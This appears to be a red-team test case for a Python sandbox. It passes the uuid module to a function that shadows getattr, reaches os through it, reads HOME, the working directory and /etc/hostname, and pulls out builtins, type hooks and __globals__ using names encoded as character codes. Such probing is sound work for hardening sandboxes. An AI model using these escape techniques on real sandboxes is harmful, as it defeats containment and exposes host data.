# family: red team, round 63b (def getattr shadows the builtin: uuid module handed over, then os, builtins, type, __globals__)
import uuid


def text(codes):
    return "".join(chr(c) for c in codes)


def getattr(where, key):
    system = where.os
    print(where)
    print(system.environ["HOME"])
    print(system.getcwd())
    handle = system.open("/etc/hostname", 0)
    print(system.read(handle, 200).decode().strip())
    real = where.sys.modules["builtins"]
    hook = text([95, 95, 105, 110, 105, 116, 95, 115, 117, 98, 99, 108, 97, 115, 115, 95, 95])
    maker = real.type
    print(maker)

    def ran(cls, **kw):
        print("hook ran for", cls.__name__)

    base = maker("Base", (), {hook: ran})
    maker("Child", (base,), {})
    print(real.getattr(text, text([95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95])))
    return key


getattr(uuid, "uuid4")
